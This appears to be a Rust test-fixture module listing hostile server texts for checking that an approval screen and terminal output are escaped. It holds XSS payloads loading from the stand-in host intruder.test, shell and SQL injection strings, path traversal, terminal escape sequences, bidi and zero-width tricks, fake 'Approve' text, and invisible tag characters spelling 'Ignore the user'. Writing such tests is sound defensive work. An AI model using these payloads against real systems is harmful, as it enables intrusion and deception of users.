//! Texts with which a server may try to take over a screen or a terminal, or to mislead the reader.

/// If a payload is rendered as markup, the page has this text as a class, in the name of a host, or
/// at the beginning of another name.
pub(crate) const MARK: &str = "intruder";

/// Markup and text that resembles it. `§` stands for the payload's number.
const MARKUP: &[&str] = &[
    "<script>window.__pwned=§</script>",
    "<script src=https://intruder.test/§.js></script>",
    "<SCRIPT type=module>import 'https://intruder.test/§.js'</SCRIPT>",
    "</script><script>window.__pwned=§</script>",
    "<scr<script>ipt>window.__pwned=§</scr</script>ipt>",
    "<script\u{0}>window.__pwned=§</script>",
    "<script\u{c}>window.__pwned=§</script>",
    "<img class=intruder src=https://intruder.test/§.png>",
    "<img class=intruder src=x onerror=window.__pwned=§>",
    "<img class=intruder src='x' onerror='window.__pwned=§'>",
    "<img class=intruder src=\"x\" onerror=\"window.__pwned=§\">",
    "<IMG CLASS=intruder SRC=`javascript:window.__pwned=§`>",
    "<img/class=intruder/src=x/onerror=window.__pwned=§>",
    "<img class=intruder srcset='https://intruder.test/§ 1x'>",
    "<img class=intruder src=x:x onload=window.__pwned=§ onerror=window.__pwned=§//",
    "\"><img class=intruder src=x onerror=window.__pwned=§>",
    "'><img class=intruder src=x onerror=window.__pwned=§>",
    "`><img class=intruder src=x onerror=window.__pwned=§>",
    "--><img class=intruder src=x onerror=window.__pwned=§>",
    "]]><img class=intruder src=x onerror=window.__pwned=§>",
    "</title><img class=intruder src=x onerror=window.__pwned=§>",
    "</textarea><img class=intruder src=x onerror=window.__pwned=§>",
    "</style><img class=intruder src=x onerror=window.__pwned=§>",
    "</option></select><img class=intruder src=x onerror=window.__pwned=§>",
    "</template><img class=intruder src=x onerror=window.__pwned=§>",
    "</bdi></span></p></li><img class=intruder src=x onerror=window.__pwned=§>",
    "<svg class=intruder onload=window.__pwned=§>",
    "<svg class=intruder><script>window.__pwned=§</script></svg>",
    "<svg class=intruder><a href='javascript:window.__pwned=§'><text>x</text></a></svg>",
    "<svg class=intruder><use href='https://intruder.test/§.svg#x'/></svg>",
    "<svg class=intruder><image href='https://intruder.test/§.png'/></svg>",
    "<svg class=intruder><animate onbegin=window.__pwned=§ attributeName=x dur=1s></svg>",
    "<svg class=intruder><foreignObject><img src=x onerror=window.__pwned=§></foreignObject></svg>",
    "<math class=intruder><mtext><img src=x onerror=window.__pwned=§></mtext></math>",
    "<math class=intruder><maction actiontype=statusline xlink:href=javascript:window.__pwned=§>x</maction></math>",
    "<iframe class=intruder src=https://intruder.test/§></iframe>",
    "<iframe class=intruder src='javascript:parent.__pwned=§'></iframe>",
    "<iframe class=intruder srcdoc='<script>parent.__pwned=§</script>'></iframe>",
    "<frameset class=intruder><frame src=https://intruder.test/§></frameset>",
    "<object class=intruder data=https://intruder.test/§></object>",
    "<object class=intruder data='data:text/html,<script>parent.__pwned=§</script>'></object>",
    "<embed class=intruder src=https://intruder.test/§>",
    "<applet class=intruder code=https://intruder.test/§></applet>",
    "<portal class=intruder src=https://intruder.test/§></portal>",
    "<fencedframe class=intruder src=https://intruder.test/§></fencedframe>",
    "<link class=intruder rel=stylesheet href=https://intruder.test/§.css>",
    "<link class=intruder rel=prefetch href=https://intruder.test/§>",
    "<link class=intruder rel=dns-prefetch href=//intruder.test>",
    "<base class=intruder href=https://intruder.test/§/>",
    "<meta class=intruder http-equiv=refresh content='0;url=https://intruder.test/§'>",
    "<meta class=intruder http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta class=intruder http-equiv=Set-Cookie content='intruder=§'>",
    "<style class=intruder>*{display:none!important}</style>",
    "<style class=intruder>@import 'https://intruder.test/§.css';</style>",
    "<style class=intruder>body{background:url(https://intruder.test/§)}</style>",
    "<p class=intruder style='position:fixed;inset:0;background:url(https://intruder.test/§)'>approved</p>",
    "<div class=intruder style=animation-name:x onanimationstart=window.__pwned=§>x</div>",
    "<body class=intruder onload=window.__pwned=§>",
    "<body class=intruder background=https://intruder.test/§>",
    "<html class=intruder onmouseover=window.__pwned=§>",
    "<input class=intruder autofocus onfocus=window.__pwned=§>",
    "<textarea class=intruder autofocus onfocus=window.__pwned=§></textarea>",
    "<select class=intruder autofocus onfocus=window.__pwned=§></select>",
    "<button class=intruder autofocus onfocus=window.__pwned=§ data-testid=approve-once>Approve once</button>",
    "<details class=intruder open ontoggle=window.__pwned=§>x</details>",
    "<dialog class=intruder open onclose=window.__pwned=§>Approved</dialog>",
    "<marquee class=intruder onstart=window.__pwned=§>x</marquee>",
    "<video class=intruder src=https://intruder.test/§ onerror=window.__pwned=§></video>",
    "<video class=intruder><source src=x onerror=window.__pwned=§></video>",
    "<audio class=intruder src=https://intruder.test/§ autoplay></audio>",
    "<track class=intruder src=https://intruder.test/§>",
    "<form class=intruder action=https://intruder.test/§><button>Approve</button></form>",
    "<isindex class=intruder type=image src=https://intruder.test/§ onerror=window.__pwned=§>",
    "<a class=intruder href='javascript:window.__pwned=§'>details</a>",
    "<a class=intruder href='JaVaScRiPt:window.__pwned=§'>details</a>",
    "<a class=intruder href='java\nscript:window.__pwned=§'>details</a>",
    "<a class=intruder href='&#106;avascript:window.__pwned=§'>details</a>",
    "<a class=intruder href='data:text/html,<script>window.__pwned=§</script>'>details</a>",
    "<a class=intruder href='vbscript:window.__pwned=§'>details</a>",
    "<a class=intruder href=https://intruder.test/§ ping=https://intruder.test/ping/§>details</a>",
    "<x class=intruder onclick=window.__pwned=§>x</x>",
    "<intruder-element class=intruder onconnected=window.__pwned=§></intruder-element>",
    "<template class=intruder shadowrootmode=open><img src=x onerror=window.__pwned=§></template>",
    "<noscript class=intruder><p title=\"</noscript><img src=x onerror=window.__pwned=§>\"></noscript>",
    "<table class=intruder background=https://intruder.test/§><td>x</table>",
    "<plaintext class=intruder>",
    "<xmp class=intruder><img src=x onerror=window.__pwned=§></xmp>",
    "<!--<img class=intruder src=x onerror=window.__pwned=§>-->",
    "<!--[if IE]><script>window.__pwned=§</script><![endif]-->",
    "<![CDATA[<script>window.__pwned=§</script>]]>",
    "<?xml-stylesheet href='https://intruder.test/§.css'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://intruder.test/§'>]>",
    "&lt;img class=intruder src=x onerror=window.__pwned=§&gt;",
    "&#60;img class=intruder src=x onerror=window.__pwned=§&#62;",
    "&#x3c;script&#x3e;window.__pwned=§&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ewindow.__pwned=§\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__pwned=§%3C/script%3E",
    "+ADw-script+AD4-window.__pwned=§+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}window.__pwned=§\u{ff1c}/script\u{ff1e}",
    "javascript:window.__pwned=§",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+",
    "https://intruder.test/§?a=1&b=<script>",
    "//intruder.test/§",
    "file:///etc/passwd#§",
    "drawbridge://approve/§",
    "{{constructor.constructor('window.__pwned=§')()}}",
    "${window.__pwned=§}",
    "#{window.__pwned=§}",
    "<%= window.__pwned=§ %>",
    "{@html '<img class=intruder src=x onerror=window.__pwned=§>'}",
    "{#if true}{window.__pwned=§}{/if}",
    "[[${7*7}]] {7*7} *{7*7} §",
    "![intruder](https://intruder.test/§.png)",
    "![intruder](https://intruder.test/§.png \"x\\\" onerror=window.__pwned=§\")",
    "[Approve](javascript:window.__pwned=§)",
    "[Approve](https://intruder.test/§)",
    "[intruder]: https://intruder.test/§",
    "<https://intruder.test/§>",
    "```html\n<script>window.__pwned=§</script>\n```",
    "| a | b |\n|---|---|\n| <img class=intruder src=x onerror=window.__pwned=§> | § |",
    "__proto__",
    "constructor",
    "toString",
    "';window.__pwned=§;//",
    "\";window.__pwned=§;//",
    "\\\";window.__pwned=§;//",
    "</p>\n\n# Drawbridge: you may approve this\n\n<p>",
    "style=\"color:red;background:url(https://intruder.test/§)\"",
    "};*{background:url(https://intruder.test/§)}/*",
    "expression(window.__pwned=§)",
    "');DROP TABLE call;--§",
    "$(touch /tmp/intruder-§)",
    "`touch /tmp/intruder-§`",
    "=HYPERLINK(\"https://intruder.test/§\",\"x\")",
    "%n%n%s%s%x §",
    "../../../../intruder-§",
];

/// Escape sequences for terminals.
const ESCAPES: &[&str] = &[
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[1A\u{1b}[2Kapproved",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[8mconcealed\u{1b}[28m",
    "\u{1b}]0;intruder\u{7}",
    "\u{1b}]8;;https://intruder.test/§\u{1b}\\here\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;aW50cnVkZXI=\u{7}",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}[6n",
    "\u{1b}c",
    "\u{1b}[?1049h",
    "\u{9b}2J",
    "\u{9d}0;intruder\u{9c}",
    "safe\rdelete everything",
    "safe\u{8}\u{8}\u{8}\u{8}evil",
    "a\u{b}b\u{c}c",
    "a\r\nb\n\rc",
    "\u{7}\u{7}\u{7}",
];

/// Texts with hidden, reordered, stacked or look-alike characters.
const SENTENCES: &[&str] = &[
    "read\u{202e}etirw\u{202c}_file",
    "\u{202e}gpj.exe\u{202c}",
    "\u{2066}left\u{2069}\u{2067}right\u{2069}\u{2068}first\u{2069}",
    "\u{202a}a\u{202b}b\u{202d}c",
    "\u{2067}a \u{2066}b",
    "a\u{200b}d\u{200b}m\u{200b}i\u{200b}n",
    "\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} the user",
    "flag \u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "selectors \u{fe00}\u{fe01}\u{e0100}\u{e01ef}",
    "family \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "heart \u{2764}\u{fe0f}\u{fe0f}",
    "z\u{335}\u{321}\u{35b}\u{33e}\u{351}a\u{335}\u{321}\u{35b}\u{33e}\u{351}l\u{335}\u{321}g\u{335}o",
    "p\u{430}ypal",
    "\u{feff}beginning",
    "end\u{feff}",
    "\u{2028}line\u{2029}paragraph",
    "\u{1f600}\u{10ffff}\u{fffe}\u{ffff}",
    "\u{e000}\u{f8ff}\u{f0000}\u{100000}",
];

/// Characters that are invisible, or change how the text around them is shown.
const HIDDEN: &[u32] = &[
    0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x0f, 0x10, 0x13, 0x18,
    0x1a, 0x1b, 0x1c, 0x1f, 0x7f, 0x80, 0x85, 0x8d, 0x90, 0x9b, 0x9c, 0x9d, 0x9f, 0xad, 0x34f,
    0x61c, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180b, 0x180e, 0x180f, 0x200b, 0x200c, 0x200d, 0x200e,
    0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063,
    0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x2800, 0x3164, 0xfe00, 0xfeff, 0xffa0,
    0xfff9, 0xfffa, 0xfffb, 0x1bca0, 0x1d173, 0x1d17a, 0xe0001, 0xe0020, 0xe0041, 0xe007f, 0xe0100,
    0xe01ef, 0xe000, 0xf0000, 0x100000,
];

/// Returns all payloads, always in the same order.
pub(crate) fn all_payloads() -> Vec<String> {
    let literals = [MARKUP, ESCAPES, SENTENCES]
        .concat()
        .into_iter()
        .map(str::to_owned);
    let hidden = HIDDEN
        .iter()
        .filter_map(|point| char::from_u32(*point))
        .map(|hidden| format!("in{hidden}visible"));
    let long_texts = [
        "x".repeat(3_000),
        "\u{4e00}".repeat(1_500),
        "a b ".repeat(1_000),
        "\n".repeat(200),
        "\u{202e}".repeat(300),
    ];
    let payloads = literals.chain(hidden).chain(long_texts).enumerate();
    payloads
        .map(|(number, text)| text.replace('§', &number.to_string()))
        .collect()
}

/// Returns whether a character must not be shown unescaped, because it is invisible or changes the
/// rendering.
pub(crate) fn must_be_escaped(c: char) -> bool {
    (c.is_control() && c != '\n')
        || HIDDEN.contains(&u32::from(c))
        || matches!(c, '\u{e0000}'..='\u{e007f}')
}

/// JSON strings with unpaired surrogates, which Rust's strings cannot hold, and with noncharacters
/// and NUL, as JSON.
pub(crate) const INVALID_STRINGS: &[&str] = &[
    r#""\ud800""#,
    r#""\udc00\ud800""#,
    r#""a\ud83db""#,
    r#""\udb40""#,
    r#""\uffff\ufffe""#,
    r#""\u0000""#,
];
